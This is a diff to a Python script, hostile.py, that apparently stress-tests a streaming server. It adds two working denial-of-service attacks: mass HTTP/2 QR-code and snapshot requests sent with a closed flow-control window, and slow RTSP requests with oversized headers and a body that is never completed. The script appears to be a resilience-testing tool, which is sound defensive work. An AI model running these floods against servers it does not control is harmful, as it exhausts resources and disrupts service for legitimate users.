@@ -8,6 +8,8 @@ usage: hostile.py SERVER HTTP HTTPS RTSP RTSPS SECONDS
   logins     1,000 wrong logins a second: half with passwords over RTSP, half with tokens over HTTP
   uploads    images of 8 MiB, ten a second
   streams    event streams and Motion JPEG that are not read, also a hundred on each connection of HTTP/2
+  codes      new QR codes, a hundred at once on each connection of HTTP/2, and snapshots for windows that stay closed
+  messages   RTSP requests with headers and a body as large as they may be, whose last byte does not come
 
 Each attack is a process, with a lower priority than the server: on two hosts it would not compete for its processors.
 """
@@ -19,12 +21,14 @@ import resource
 import select
 import socket
 import ssl
+import struct
 import sys
 import time
 
 from visitor import END_HEADERS, END_STREAM, HEADERS, PREFACE, SETTINGS, Visitor, basic, bearer, frame, literal
 
 CROWD, LOGINS, SLOW, UPLOADS, STREAMS, MULTIPLEXED = 10_000, 1_000, 30, 10, 150, 40
+CODES, MESSAGES = 20, 500
 
 
 class Target(Visitor):
@@ -244,6 +248,57 @@ def streams_http2(target):
     return {"sent": opened}
 
 
+def codes(target):
+    """On every second connection the client's window is closed."""
+    slots, opened = [None] * CODES, 0
+    closed_window = struct.pack(">HI", 4, 0)
+    while target.lasts():
+        for number, connection in enumerate(slots):
+            if not target.lasts():
+                break
+            try:
+                if connection is not None:
+                    slots[number] = None
+                    connection.close()
+                path = f"/api/qr.svg?text={number}-{{}}-" + "x" * 400 if number % 2 == 0 else "/live/snapshot.jpg?{}"
+                requests = b"".join(
+                    frame(HEADERS, END_HEADERS | END_STREAM, 2 * index + 1, b"".join(
+                        literal(name, value) for name, value in {
+                            ":method": "GET", ":scheme": "https", ":authority": target.host,
+                            ":path": path.format(opened + index)}.items()))
+                    for index in range(100))
+                slots[number] = connection = target.connect_tls("h2", 5)
+                settings = closed_window if number % 2 else b""
+                connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings) + requests)
+                opened += 100
+            except OSError:
+                slots[number] = None
+        time.sleep(0.5)
+    return {"sent": opened}
+
+
+def messages(target):
+    head = b"OPTIONS * RTSP/1.0\r\nCSeq: 1\r\n" + b"X: " + b"x" * 3_900 + b"\r\nX: " + b"x" * 3_900 + b"\r\n"
+    head += b"Content-Length: 4096\r\n\r\n" + b"x" * 4_095
+    slots, opened = [None] * MESSAGES, 0
+    while target.lasts():
+        for number, connection in enumerate(slots):
+            if not target.lasts():
+                break
+            try:
+                if connection is None:
+                    slots[number] = connection = target.connect(target.rtsp, 5)
+                    connection.sendall(head)
+                    opened += 1
+                elif is_closed(connection):
+                    slots[number] = None
+                    connection.close()
+            except OSError:
+                slots[number] = None
+        time.sleep(1)
+    return {"sent": opened}
+
+
 def is_closed(connection):
     poll = select.poll()
     poll.register(connection, select.POLLRDHUP)
@@ -267,7 +322,7 @@ def main():
     target = Target(server, int(http), int(https), int(rtsp), int(rtsps), time.monotonic() + float(seconds))
     results = multiprocessing.SimpleQueue()
     attacks = [crowd, slow_http, slow_https, slow_http2, slow_rtsp, slow_rtsps, logins, uploads, streams,
-               streams_http2]
+               streams_http2, codes, messages]
     processes = [multiprocessing.Process(target=run, args=(attack, target, results)) for attack in attacks]
     for process in processes:
         process.start()
